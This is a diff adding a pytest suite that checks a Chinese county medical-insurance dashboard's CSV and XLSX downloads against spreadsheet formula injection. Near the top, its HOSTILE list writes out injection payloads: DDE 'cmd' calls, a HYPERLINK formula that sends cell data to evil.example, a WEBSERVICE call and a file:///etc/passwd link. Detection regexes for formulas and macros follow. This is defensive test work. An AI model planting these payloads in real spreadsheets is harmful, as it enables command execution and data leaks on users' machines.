@@ -1,0 +1,197 @@
+"""Every download: complete, Chinese intact, and nothing in it that a spreadsheet would run, fetch or follow."""
+
+import csv
+import io
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+import streamlit
+from python_calamine import CalamineWorkbook
+from streamlit.delta_generator import DeltaGenerator
+
+import pipelines
+from pipelines.handbook.templates import all_templates, every_layout, template
+from pipelines.spreadsheets import harmless, xlsx_bytes
+from tests import files
+from tests.views.app import opened
+from tests.views.test_pages import PAGES
+from views import look, upload_problems
+
+HOSTILE = [
+    "=cmd|'/c calc'!A0",
+    "+cmd|' /C notepad'!'A1'",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
+    '=DDE("cmd";"/C calc";"!A0")',
+    '=WEBSERVICE("http://evil.example")',
+    "\t=1+1",
+    " =1+2",
+    "　=1+3",
+    "\u00a0+4",
+    "\ufeff=1+1",
+    "\u200b@A1",
+    "＝1+1",
+    "＋1＋1",
+    "－1－1",
+    "＠SUM(A1)",
+    "http://evil.example/云溪",
+    "mailto:x@evil.example",
+    "file:///etc/passwd",
+    "云溪县人民医院𠮷㐂",
+]
+NUMBER = re.compile(r"[-+]?\d[\d,]*(\.\d+)?%?")
+RUNS = re.compile(r"[\s\x00-\x20\u00a0\u200b\ufeff\u3000]*[=+\-@＝＋－＠]")
+IN_XLSX = re.compile(
+    r"<(f|hyperlink|ddeLink|oleLink|oleObject|externalReference|webPublish)[ />]|Target=\"(http|file|mailto)"
+)
+
+
+def live(cell: str) -> bool:
+    """Whether a spreadsheet might take a cell of a CSV for a formula."""
+    return bool(RUNS.match(cell)) and not NUMBER.fullmatch(cell)
+
+
+def cells_of(content: bytes) -> list[list[str]]:
+    """The rows of a CSV that Excel opens with Chinese intact, all of one width."""
+    assert content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
+    assert len({len(row) for row in rows}) == 1
+    return rows
+
+
+def sheets_of(content: bytes) -> dict[str, list[list]]:
+    """The sheets of a workbook in which nothing runs and nothing leads outside."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert archive.testzip() is None
+        for name in archive.namelist():
+            assert not re.search("vba|macro|externalLink|activeX|embed|queryTable|connections", name, re.I), name
+            assert not IN_XLSX.search(archive.read(name).decode("utf-8")), name
+    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
+    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
+
+
+# ---------------------------------------------------------------- cells
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_is_dead_in_a_csv_and_whole_in_a_workbook(text):
+    ((_,), (cell,)) = cells_of(look.csv_bytes(["名称"], [[text]]))
+    assert not live(cell)
+    assert cell.removeprefix("'") == text
+    assert sheets_of(xlsx_bytes(["名称"], [[text]])) == {"数据": [["名称"], [text]]}
+
+
+@pytest.mark.parametrize("cell", ["云溪镇", "1-2", "a=b", "2026-01-01", "'x", ""])
+def test_other_text_is_left_as_it_is(cell):
+    assert harmless(cell) == cell
+
+
+# ---------------------------------------------------------------- the dashboard's
+
+
+@pytest.fixture(scope="module")
+def hostile_county(tmp_path_factory) -> Path:
+    """A county whose towns, institutions, cases and notes bear hostile text."""
+    folder = tmp_path_factory.mktemp("hostile")
+    quoted = ['"' + text.replace('"', '""') + '"' for text in HOSTILE]
+    codes = [f"H9901010{n:04d}" for n in range(len(HOSTILE))]
+    towns = [{"乡镇": t} for t in quoted]
+    places = [{"机构编码": c, "机构名称": t, "乡镇": t, "协议编号": t} for c, t in zip(codes, quoted, strict=True)]
+    stays = [{"定点医药机构编号": c, "乡镇": t, "人员编号": c} for c, t in zip(codes, quoted, strict=True)]
+    cases = [{"案件编号": f'"{n}{t[1:]}', "违规事实": t, "决定文号": t, "机构名称": t} for n, t in enumerate(quoted)]
+    for name, base, changes in (
+        ("enrolment", files.ENROLMENT, towns),
+        ("institutions", files.INSTITUTION, places),
+        ("settlements", files.SETTLEMENT, stays),
+        ("penalties", files.PENALTY, cases),
+        ("collection", files.COLLECTION, [{}]),
+        ("audit", files.AUDIT, [{}]),
+    ):
+        files.write(folder, files.rows(base, *changes), f"{name}.csv")
+    receipts = pipelines.load(folder / "warehouse", [folder], "=cmd|'/c calc'!A0")
+    assert {r.status for r in receipts} == {"loaded"}, [p.text for r in receipts for p in r.problems]
+    return folder / "warehouse"
+
+
+@pytest.fixture
+def offered(monkeypatch) -> dict[str, bytes]:
+    """What the pages opened in a test offer to download: file name -> content."""
+    found: dict[str, bytes] = {}
+
+    def button(label, data, file_name=None, *more, **options):
+        content = data() if callable(data) else data
+        found[file_name] = content.encode() if isinstance(content, str) else bytes(content)
+
+    monkeypatch.setattr(streamlit, "download_button", button)
+    monkeypatch.setattr(DeltaGenerator, "download_button", lambda self, *given, **options: button(*given, **options))
+    return found
+
+
+@pytest.mark.parametrize("page", [*PAGES])
+def test_what_a_page_offers_is_complete_and_dead(hostile_county, offered, monkeypatch, page):
+    query = {"kpi": "insured_persons"} if page == "rows" else {}
+    opened(hostile_county, monkeypatch, page, **query)
+    for name, content in offered.items():
+        if name.endswith(".csv"):
+            rows = cells_of(content)
+            assert [cell for row in rows for cell in row if live(cell)] == [], name
+            assert len(rows) > 1, name
+        if name.endswith(".xlsx"):
+            assert sheets_of(content)
+    assert offered, "a page without a download would prove nothing"
+
+
+def test_hostile_names_are_in_the_downloads_letter_by_letter(hostile_county, offered, monkeypatch):
+    """Else the cells above might be dead because they are missing."""
+    opened(hostile_county, monkeypatch, "rows", kpi="insured_persons")
+    opened(hostile_county, monkeypatch, "institutions")
+    opened(hostile_county, monkeypatch, "audit")
+    written = {cell for content in offered.values() for row in cells_of(content) for cell in row}
+    kept = {text.strip(" \t　\u00a0") for text in HOSTILE}
+    assert {harmless(text) for text in kept} <= written
+
+
+# ---------------------------------------------------------------- uploads
+
+
+def test_the_problems_of_a_hostile_file_are_complete_and_dead_in_both_forms(tmp_path):
+    quoted = ['"' + text.replace('"', '""') + '"' for text in HOSTILE]
+    hostile = [{"医疗费总额": text, "乡镇": text} for text in quoted]
+    found = files.staged(tmp_path, files.rows(files.SETTLEMENT, *hostile))
+    assert len(found.problems) >= len(HOSTILE)
+    rows = cells_of(look.csv_bytes(upload_problems.HEADS, map(upload_problems.record, found.problems)))
+    assert len(rows) == len(found.problems) + 1
+    assert [cell for row in rows for cell in row if live(cell)] == []
+    listed, faulty = sheets_of(upload_problems.workbook(found)).values()
+    assert len(listed) == len(found.problems) + 1
+    assert set(HOSTILE) <= {cell for row in faulty for cell in row}
+
+
+def test_a_file_with_a_hostile_header_has_a_dead_list_of_problems(tmp_path):
+    heads = {'"' + text.replace('"', '""') + '"': "1" for text in HOSTILE}
+    found = files.staged(tmp_path, files.rows(files.SETTLEMENT | heads, {}))
+    assert found.problems
+    assert sheets_of(upload_problems.workbook(found))
+    rows = cells_of(look.csv_bytes(upload_problems.HEADS, map(upload_problems.record, found.problems)))
+    assert [cell for row in rows for cell in row if live(cell)] == []
+
+
+@pytest.mark.parametrize(("contract", "layout"), every_layout())
+def test_a_template_is_dead_and_has_every_column(contract, layout):
+    headers = [column.header for column in layout.columns.values()]
+    _, content = template(contract.table, layout.name, "csv")
+    rows = cells_of(content)
+    assert rows[0] == headers
+    assert [cell for row in rows for cell in row if live(cell)] == []
+    sheets = sheets_of(template(contract.table, layout.name, "xlsx")[1])
+    assert [str(cell) for cell in next(iter(sheets.values()))[0]] == headers
+
+
+def test_the_archive_of_all_templates_opens_and_its_names_are_chinese():
+    _, content = all_templates()
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert archive.testzip() is None
+        assert all(re.search("[\u4e00-\u9fff]", name) for name in archive.namelist())
